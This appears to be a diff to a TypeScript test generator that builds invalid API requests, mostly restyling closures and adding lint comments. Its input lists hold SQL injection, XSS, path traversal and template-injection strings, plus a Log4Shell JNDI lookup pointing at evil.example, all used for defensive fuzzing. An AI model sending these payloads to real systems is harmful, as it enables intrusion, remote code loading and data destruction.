@@ -75,6 +75,7 @@ function exampleOf(s: JsonSchema, name = ''): unknown {
   }
 }
 
+// biome-ignore lint/suspicious/noTemplateCurlyInString: '${jndi:...}' is a deliberate literal (Log4Shell-style payload), never a template
 const INJECTIONS = ["' OR 1=1 --", '<script>alert(1)</script>', '../../etc/passwd', '${jndi:ldap://evil.example/a}', '"; DROP TABLE users; --', '{{7*7}}', '\u0000', '\u202Eevil'];
 const WRONG_TYPES: [string, unknown][] = [['number', 12345], ['boolean', true], ['null', null], ['array', ['a']], ['object', { a: 1 }], ['negative', '-1'], ['exponent', '1e3'], ['empty', '']];
 
@@ -134,6 +135,7 @@ function candidatesOf(op: Operation): Candidate[] {
   };
   // Path parameters: injections, encoded slashes, traversal, over-long.
   for (const p of Object.keys(base.params)) {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: '${jndi:...}' is a deliberate literal (Log4Shell-style payload), never a template
     for (const [i, v] of ['a/b', '../../etc/passwd', '..\\..\\windows', "' OR 1=1 --", '<script>', '${jndi:ldap://x/a}', 'x'.repeat(300), 'a b', '%00', 'é'].entries()) {
       clone(`path.${p}: #${i}`, (c) => (c.params[p] = v));
     }
@@ -163,10 +165,10 @@ function candidatesOf(op: Operation): Candidate[] {
     clone('body: not accepted', (c) => (c.body = { unexpected: "' OR 1=1 --" }));
   }
   // Transport: malformed JSON, wrong media type, oversized body, bad Idempotency-Key.
-  clone('transport: malformed JSON', (c) => ((c.raw = Buffer.from('{"amount": "10.50",')), (c.contentType = 'application/json')));
-  clone('transport: text/plain', (c) => ((c.raw = Buffer.from(JSON.stringify(base.body ?? { a: 1 }))), (c.contentType = 'text/plain')));
-  clone('transport: 300 KB body', (c) => ((c.raw = Buffer.from(JSON.stringify({ pad: 'x'.repeat(300 * 1024) }))), (c.contentType = 'application/json')));
-  clone('transport: form body', (c) => ((c.raw = Buffer.from('a=1&b=2')), (c.contentType = 'application/x-www-form-urlencoded')));
+  clone('transport: malformed JSON', (c) => { c.raw = Buffer.from('{"amount": "10.50",'); c.contentType = 'application/json'; });
+  clone('transport: text/plain', (c) => { c.raw = Buffer.from(JSON.stringify(base.body ?? { a: 1 })); c.contentType = 'text/plain'; });
+  clone('transport: 300 KB body', (c) => { c.raw = Buffer.from(JSON.stringify({ pad: 'x'.repeat(300 * 1024) })); c.contentType = 'application/json'; });
+  clone('transport: form body', (c) => { c.raw = Buffer.from('a=1&b=2'); c.contentType = 'application/x-www-form-urlencoded'; });
   if (op.kind === 'money') {
     for (const [i, k] of [undefined, '', 'short', 'x'.repeat(200), 'key with spaces 123', 'key#hash#12345', "' OR 1=1 --"].entries()) clone(`header.Idempotency-Key: #${i}`, (c) => (c.idemKey = k));
   }
@@ -186,7 +188,7 @@ export interface GeneratedSet {
 /** `count` invalid requests over every catalog operation, deterministic for `seed`. */
 export function generateInvalidRequests(count: number, seed = 1): GeneratedSet {
   const perOp: Record<string, number> = {};
-  let droppedValid = 0;
+  const droppedValid = 0;
   const all: InvalidRequest[][] = [];
   for (const op of operations) {
     const cands = candidatesOf(op);
